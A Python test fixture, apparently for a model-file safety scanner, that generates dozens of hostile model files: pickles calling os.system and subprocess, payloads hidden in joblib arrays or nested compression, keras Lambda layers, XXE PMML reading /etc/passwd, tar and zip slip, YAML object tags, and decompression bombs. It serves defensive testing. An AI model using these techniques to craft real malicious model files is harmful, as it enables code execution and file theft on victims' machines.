"""Hostile model files of every kind that is known here, written by `write(folder, marker)`.

What they would run, loaded by those who load their kind, creates the file `marker` and does nothing else.
As a script: `python tests/servers/safety/hostile.py FOLDER`.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import h5py
import joblib
import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper
from sklearn.linear_model import Ridge
from sklearn.preprocessing import FunctionTransformer

LEGACY = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."


class Touch:
    """Creates a file when unpickled."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self):
        return os.system, (f"touch {self._marker}",)


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def calling(module: str, name: str, *args: str) -> bytes:
    """A pickle that calls `module.name(*args)`, names by STACK_GLOBAL."""
    return b"\x80\x04" + text(module) + text(name) + b"\x93(" + b"".join(map(text, args)) + b"tR."


def fitted():
    x = np.random.default_rng(0).random((30, 3))
    return Ridge().fit(x, x[:, 0])


def joblib_bytes(model, **options) -> bytes:
    held = io.BytesIO()
    joblib.dump(model, held, **options)
    return held.getvalue()


def zipped(*files: tuple[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return held.getvalue()


def tarred(*files: tuple[str, bytes], mode: str = "w", links: tuple[tuple[str, str], ...] = ()) -> bytes:
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in files:
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
        for name, aim in links:
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = tarfile.SYMTYPE, aim
            archive.addfile(entry)
    return held.getvalue()


def npy(array: np.ndarray) -> bytes:
    held = io.BytesIO()
    np.save(held, array, allow_pickle=True)
    return held.getvalue()


def field(number: int, value: bytes | str | int) -> bytes:
    """One field of a protocol buffer."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    data = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(data)) + data


def varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes((*out, value))


def node(name: str, op: str, *inputs: str, attributes: bytes = b"") -> bytes:
    return field(1, name) + field(2, op) + b"".join(field(3, each) for each in inputs) + attributes


def calls(function: str) -> bytes:
    """An attribute that names a function."""
    return field(5, field(1, "f") + field(2, field(10, field(1, function))))


def graph(*nodes: bytes, functions: tuple[tuple[str, tuple[bytes, ...]], ...] = ()) -> bytes:
    library = b"".join(
        field(1, field(1, field(1, name)) + b"".join(field(3, each) for each in body))
        for name, body in functions
    )
    return b"".join(field(1, each) for each in nodes) + (field(2, library) if library else b"")


def saved_model(graph_: bytes, output: str = "out:0", asset: str = "") -> bytes:
    signature = field(1, "serving_default") + field(2, field(2, field(1, "y") + field(2, field(1, output))))
    meta = field(2, graph_) + field(5, signature) + (field(6, field(2, asset)) if asset else b"")
    return field(1, 1) + field(2, meta)


def onnx_outside(location: str) -> bytes:
    kept = numpy_helper.from_array(np.ones(3, np.float32), "w")
    onnx.external_data_helper.set_external_data(kept, location)
    kept.ClearField("raw_data")
    kept.data_location = TensorProto.EXTERNAL
    value = [helper.make_tensor_value_info(name, TensorProto.FLOAT, ["n", 3]) for name in "xy"]
    made = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", value[:1], value[1:], [kept])
    return helper.make_model(
        made, opset_imports=[helper.make_opsetid("", 17)], ir_version=8
    ).SerializeToString()


def hdf5(fill: Callable[[h5py.File], object]) -> bytes:
    held = io.BytesIO()
    with h5py.File(held, "w") as file:
        fill(file)
    return held.getvalue()


def keras_config(layer: dict) -> dict:
    return {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}


def keras_zip(layer: dict, *more: tuple[str, bytes]) -> bytes:
    weights = hdf5(lambda file: file.create_dataset("w", data=np.ones(2)))
    files = [("metadata.json", b"{}"), ("config.json", json.dumps(keras_config(layer)).encode())]
    return zipped(*files, ("model.weights.h5", weights), *more)


def torch_zip(pickled: bytes, *more: tuple[str, bytes]) -> bytes:
    files = [("archive/data.pkl", pickled), ("archive/data/0", b"\0" * 16), ("archive/version", b"3\n")]
    return zipped(*files, *more, method=zipfile.ZIP_STORED)


def hidden_in_array(payload: bytes) -> bytes:
    """joblib reads an array of bytes where pickle.load reads opcodes, and the payload is in the array."""
    honest = joblib_bytes(np.frombuffer(b"A" * 96, dtype=np.uint8))
    at = honest.index(b"A" * 96)
    # Without the padding that joblib writes now, as before 1.2, the array's bytes follow at once.
    start = honest.rindex(b"\x8c\x1bnumpy_array_alignment_bytes", 0, at)
    end = honest.index(b"ub", start)
    body = honest[:start] + honest[end : end + 2]
    body = (
        body.replace(honest[2:11], b"", 1) if honest[2:3] == b"\x95" else body
    )  # the frame's length is off now
    return body + payload.ljust(96, b"A") + b"."


def through_partial() -> bytes:
    """joblib's array made by functools.partial, which a reader of opcodes would not take for one."""
    wrapper = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
    return b"\x80\x02cfunctools\npartial\n" + wrapper + b"\x85R)R}b."


LAMBDA = {"class_name": "Lambda", "config": {"function": [base64.b64encode(b"code").decode(), None, None]}}
DENSE = {"module": "keras.layers", "class_name": "Dense", "config": {"units": 1}}
MLMODEL = "flavors:\n  python_function:\n    loader_module: {}\n"
BOOM = b"\0" * (64 << 20)


def files(marker: Path) -> dict[str, bytes | dict[str, bytes]]:
    """Name -> the bytes of a file, or of the files in a folder."""
    command = f"touch {marker}"
    bad = pickle.dumps(Touch(marker))
    model = fitted()
    model.extra = Touch(marker)  # type: ignore[attr-defined]
    arrayed = fitted()
    arrayed.extra = np.array([Touch(marker), 1], dtype=object)  # type: ignore[attr-defined]
    inside = joblib_bytes(model)
    scope = f"open({str(marker)!r}, 'w').close()"
    found: dict[str, bytes | dict[str, bytes]] = {
        f"protocol-{protocol}.pkl": pickle.dumps(Touch(marker), protocol) for protocol in range(6)
    }
    for module, name, *args in (
        ("os", "system", command),
        ("posix", "system", command),
        ("os", "popen", command),
        ("subprocess", "check_call", command),
        ("subprocess", "Popen", command),
        ("builtins", "eval", scope),
        ("builtins", "exec", scope),
        ("builtins", "open", str(marker), "w"),
        ("__builtin__", "execfile", "x"),
        ("builtins", "__import__", "os"),
        ("builtins", "getattr", "os", "system"),
        ("runpy", "run_path", "x.py"),
        ("importlib", "import_module", "os"),
        ("pkgutil", "resolve_name", "os:system"),
        ("pydoc", "pipepager", "x", command),
        ("pty", "spawn", command),
        ("timeit", "timeit", scope),
        ("cProfile", "run", scope),
        ("webbrowser", "open", "http://127.0.0.1"),
        ("urllib.request", "urlopen", "http://127.0.0.1"),
        ("socket", "create_connection", "x"),
        ("shutil", "rmtree", "/nowhere"),
        ("ctypes", "CDLL", "x.so"),
        ("operator", "attrgetter", "system"),
        ("_operator", "methodcaller", "system"),
        ("marshal", "loads", "x"),
        ("types", "CodeType", "x"),
        ("pickle", "loads", "x"),
        ("joblib", "load", "x"),
        ("numpy", "load", "x"),
        ("numpy", "memmap", str(marker), "u1", "w+"),
        ("numpy.f2py.crackfortran", "myeval", scope),
        ("numpy.testing._private.utils", "runstring", scope),
        ("numpy._core", "_ufunc_reconstruct", "os", "system"),
        ("scipy.stats._distn_infrastructure", "rv_continuous", "x"),
        ("sklearn.datasets", "fetch_openml", "x"),
        ("sklearn.base", "warnings.warn", "x"),
        ("pandas", "read_pickle", "x"),
        ("torch.hub", "load", "x"),
        ("torch.storage", "_load_from_bytes", "x"),
        ("logging", "FileHandler", str(marker)),
        ("distutils.file_util", "write_file", str(marker), "x"),
        ("cloudpickle.cloudpickle", "_make_function", "x"),
        ("__main__", "Model", "x"),
        ("houses", "Model", "x"),
    ):
        found[f"{module}.{name}.pkl"] = calling(module, name, *args)
    found |= {
        "partial-of-system.pkl": b"\x80\x04cfunctools\npartial\ncos\nsystem\n" + text(command) + b"\x86R)R.",
        "names-from-the-memo.pkl": b"\x80\x04"
        + text("os")
        + b"\x940"
        + text("system")
        + b"\x940h\0h\x01\x93"
        + text(command)
        + b"\x85R.",
        "inst.pkl": b"(" + text(command) + b"ios\nsystem\n.",
        "obj.pkl": b"(cos\nsystem\n" + text(command) + b"o.",
        "newobj.pkl": b"\x80\x02csubprocess\nPopen\n" + text(command) + b"\x85\x81.",
        "extension.pkl": b"\x80\x02\x82\x01)R.",
        "no-stop.pkl": calling("os", "system", command)[:-1],
        "garbage-after.pkl": calling("os", "system", command)[:-1] + b"\xff\xff",
        "second-pickle.pkl": pickle.dumps(fitted()) + bad,
        "third-pickle.joblib": joblib_bytes(fitted()) + joblib_bytes([1]) + bad,
        "trailing-bytes.pkl": pickle.dumps(fitted()) + b"\x01\x02\x03",
        "attribute.pkl": pickle.dumps(model),
        "attribute.joblib": inside,
        "array-of-objects.joblib": joblib_bytes(arrayed),
        "in-joblibs-array.joblib": hidden_in_array(b"0" + calling("os", "system", command)[2:]),
        "array-through-partial.joblib": through_partial(),
        "text.txt": pickle.dumps(Touch(marker), 0),
        "no-suffix": pickle.dumps(Touch(marker), 0),
        "called-a-picture.png": bad,
        **{
            f"joblib-{kind}.joblib": joblib_bytes(arrayed, compress=(kind, 3))
            for kind in ("zlib", "gzip", "bz2", "lzma", "xz")
        },
        "twice.pkl.gz": gzip.compress(bz2.compress(bad)),
        "thrice.joblib": zlib.compress(lzma.compress(gzip.compress(inside))),
        "zstd.joblib": b"\x28\xb5\x2f\xfd" + b"\0" * 40,
        "lz4.joblib": b"\x04\x22\x4d\x18" + b"\0" * 40,
        "a.7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 40,
        "packed.tar": tarred(("model.joblib", inside)),
        "packed.tar.gz": tarred(("model.joblib", joblib_bytes(arrayed, compress=3)), mode="w:gz"),
        "packed.tar.bz2": tarred(("a/b/model.pkl", bad), mode="w:bz2"),
        "packed.tar.xz": tarred(("model.pkl", bad), mode="w:xz"),
        "packed.zip": zipped(("model.pkl", bad)),
        "zip-in-tar-in-zip.zip": zipped(("a.tar.gz", tarred(("b.zip", zipped(("c.pkl", bad))), mode="w:gz"))),
        "called-a-zip.joblib": zipped(("model", bad)),
        "tar-slip.tar": tarred(("../../outside", b"x")),
        "tar-absolute.tar": tarred(("/tmp/outside", b"x")),
        "tar-link.tar": tarred(links=(("weights", "/etc"),)),
        "tar-link-up.tar": tarred(links=(("a/weights", "../../etc"),)),
        "zip-slip.zip": zipped(("../outside", b"x")),
        "zip-slip-windows.zip": zipped(("..\\outside", b"x")),
        "zip-behind-a-picture.npy": npy(np.ones(3)) + zipped(("x.pkl", bad)),
        "objects.npy": npy(np.array([Touch(marker)], dtype=object)),
        "objects.npz": zipped(("a.npy", npy(np.array([Touch(marker)], dtype=object)))),
        "torch.pt": torch_zip(bad),
        "torch-legacy.pth": LEGACY + b"\x80\x02M\xe9\x03." + b"\x80\x02}." + bad + b"\x80\x02]." + b"\0" * 16,
        "torch-more.pt": torch_zip(pickle.dumps({"a": 1}, 2), ("archive/extra.pkl", bad)),
        "torch-compressed.bin.gz": gzip.compress(torch_zip(bad)),
        "torch-loads-bytes.pt": torch_zip(calling("torch.storage", "_load_from_bytes", "x")),
        "torchscript.pt": torch_zip(
            pickle.dumps({}, 2),
            ("archive/constants.pkl", pickle.dumps((), 2)),
            ("archive/code/__torch__/net.py", b"def forward(self, x):\n  return torch.save([x], 'f')\n"),
        ),
        "exported.pt2": zipped(
            ("m/archive_format", b"pt2"),
            (
                "m/models/model.json",
                json.dumps(
                    {"graph_module": {"graph": {"nodes": [{"target": "torch.hub.load", "inputs": []}]}}}
                ).encode(),
            ),
        ),
        "compiled.pt2": zipped(
            ("m/archive_format", b"pt2"), ("m/data/aotinductor/model/a.so", b"\x7fELF" + b"\0" * 60)
        ),
        "lambda.keras": keras_zip(LAMBDA),
        "lambda-deep.keras": keras_zip({"class_name": "TimeDistributed", "config": {"layer": LAMBDA}}),
        "lambda-of-keras-3.keras": keras_zip(
            {
                "class_name": "Activation",
                "config": {"activation": {"class_name": "__lambda__", "config": {"value": "x"}}},
            }
        ),
        "tfsm.keras": keras_zip(
            {"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "/x"}}
        ),
        "torch-module.keras": keras_zip({"class_name": "TorchModuleWrapper", "config": {}}),
        "any-module.keras": keras_zip({"module": "os", "class_name": "system", "config": {}}),
        "download.keras": keras_zip(
            {"module": "keras.utils", "class_name": "function", "config": "get_file"}
        ),
        "vocabulary.keras": keras_zip(
            {"class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}
        ),
        "pickle-in.keras": keras_zip(DENSE, ("assets/x.pkl", bad)),
        "lambda.h5": hdf5(lambda file: file.attrs.update(model_config=json.dumps(keras_config(LAMBDA)))),
        "external-link.h5": hdf5(lambda file: file.__setitem__("w", h5py.ExternalLink("/etc/passwd", "/"))),
        "external-data.h5": hdf5(
            lambda file: file.create_dataset("w", (4,), "u1", external=[("/etc/passwd", 0, 4)])
        ),
        "external-data.weights.keras": zipped(
            ("config.json", b"{}"),
            (
                "model.weights.h5",
                hdf5(lambda file: file.create_dataset("w", (4,), "u1", external=[("/etc/passwd", 0, 4)])),
            ),
        ),
        "read-file": {"saved_model.pb": saved_model(graph(node("out", "ReadFile")))},
        "write-file": {"saved_model.pb": saved_model(graph(node("out", "WriteFile")))},
        "py-func": {"saved_model.pb": saved_model(graph(node("out", "EagerPyFunc")))},
        "in-a-function": {
            "saved_model.pb": saved_model(
                graph(
                    node("out", "StatefulPartitionedCall", attributes=calls("f")),
                    functions=(
                        ("f", (node("n", "If", attributes=calls("g")),)),
                        ("g", (node("w", "WriteFile"),)),
                    ),
                )
            )
        },
        "saves-when-asked": {
            "saved_model.pb": saved_model(
                graph(
                    node("out", "PartitionedCall", attributes=calls("__inference__traced_save_1")),
                    functions=(("__inference__traced_save_1", (node("s", "SaveV2"),)),),
                )
            )
        },
        "asset-outside": {
            "saved_model.pb": saved_model(graph(node("out", "Identity")), asset="../../etc/passwd")
        },
        "keras-metadata": {
            "saved_model.pb": saved_model(graph(node("out", "Identity"))),
            "keras_metadata.pb": field(1, field(4, json.dumps(keras_config(LAMBDA)))),
        },
        "frozen.pb": graph(node("x", "Placeholder"), node("y", "ReadFile", "x")),
        "graph-as-text": {"saved_model.pbtxt": b'meta_graphs { graph_def { node { op: "ReadFile" } } }'},
        "outside.onnx": onnx_outside("/etc/hostname"),
        "above.onnx": onnx_outside("../../secret"),
        "outside-onnx.zip": zipped(("model.onnx", onnx_outside("../secret"))),
        "doctype.pmml": b'<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>',
        "doctype-utf16.pmml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML SYSTEM "http://127.0.0.1/x">'
        "<PMML/>".encode("utf-16"),
        "billion.pmml": b'<!DOCTYPE a [<!ENTITY b "cccccccc"><!ENTITY d "&b;&b;&b;">]><a>&d;</a>',
        "doctype.zip": zipped(("a/model.pmml", b'<!DOCTYPE PMML SYSTEM "x"><PMML/>')),
        "loader-module": {"MLmodel": MLMODEL.format("os").encode()},
        "python-model": {"MLmodel": MLMODEL.format("mlflow.pyfunc.model").encode(), "python_model.pkl": bad},
        "mlflow-code": {"MLmodel": MLMODEL.format("mlflow.sklearn").encode(), "code/evil.py": b"import os\n"},
        "mlflow-outside": {"MLmodel": b"flavors:\n  sklearn:\n    pickled_model: ../../model.pkl\n"},
        "mlflow-pickle": {
            "MLmodel": MLMODEL.format("mlflow.sklearn").encode(),
            "model.pkl": pickle.dumps(model),
        },
        "mlflow-torch": {
            "MLmodel": MLMODEL.format("mlflow.pytorch").encode(),
            "data/pickle_module_info.txt": b"evil_pickle",
            "data/model.pth": torch_zip(bad),
        },
        "yaml-tag": {"config.yaml": b"a: !!python/object/apply:os.system ['id']\n"},
        "remote-code": {
            "config.json": b'{"auto_map": {"AutoModel": "modeling.Evil"}}',
            "modeling.py": b"x = 1\n",
        },
        "native": {"model.json": b"{}", "ops.so": b"\x7fELF" + b"\0" * 60},
        "script": {"model.json": b"{}", "run": b"#!/bin/sh\ntouch x\n"},
        "compiled-python": {"model.json": b"{}", "hook.pyc": b"\xa7\r\r\n" + b"\0" * 20},
        "classes.jar": zipped(("Evil.class", b"\xca\xfe\xba\xbe" + b"\0" * 20)),
        "unknown.bin": bytes(range(255, 0, -1)),
        "memo-bomb.pkl": b"\x80\x04)\x94"
        + b"h\0h\0\x86\x94"
        + b"".join(b"h" + bytes([n]) + b"h" + bytes([n]) + b"\x86\x94" for n in range(1, 200))
        + b"\x8f(h\xc8\x90cos\nsystem\n"
        + text(command)
        + b"\x85R.",
        "hash-bomb.pkl": b"\x80\x04}("
        + b"".join(
            b"\x8a\x0f" + (n * (2**61 - 1)).to_bytes(15, "little", signed=True) + b"N" for n in range(20_000)
        )
        + b"u0cos\nsystem\n"
        + text(command)
        + b"\x85R.",
        "huge-number.pkl": b"\x80\x02\x8b\xff\xff\xff\x7f" + b"\x01" * 100,
        "deep-lists.pkl": b"]" * 100_000 + b"cos\nsystem\n" + text(command) + b"\x85R.",
        "huge-frame.pkl": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7fN.",
    }
    transformer = FunctionTransformer(os.system)
    import skops.io

    found["function.skops"] = skops.io.dumps(transformer)
    deep = bad
    for _ in range(20):
        deep = gzip.compress(deep)
    found["twenty-layers.pkl.gz"] = deep
    return found


#: Small files that unfold to much; each takes a second or two to make.
BOMBS: dict[str, Callable[[], bytes]] = {
    "bomb.pkl.gz": lambda: gzip.compress(BOOM * 4),
    "bomb.tar.xz": lambda: tarred(("zeros", BOOM * 2), mode="w:xz"),
    "bomb.zip": lambda: zipped(*((f"zeros-{number}", BOOM) for number in range(4))),
    "bomb-in-bomb.zip": lambda: zipped(("a.gz", gzip.compress(BOOM * 4))),
    "bomb.joblib": lambda: zlib.compress(b"\x80\x04B" + struct.pack("<I", 4 * len(BOOM)) + BOOM * 4 + b"."),
}


def write(folder: Path, marker: Path) -> dict[str, Path]:
    """Write all but the bombs to `folder`; name -> where."""
    written: dict[str, Path] = {}
    for name, content in files(marker).items():
        path = folder / name
        for inner, data in content.items() if isinstance(content, dict) else [("", content)]:
            target = path / inner if inner else path
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(data)
        written[name] = path
    return written


if __name__ == "__main__":
    made = write(Path(sys.argv[1]), Path(sys.argv[1]).absolute() / "ran")
    print(f"{len(made)} hostile models in {sys.argv[1]}")
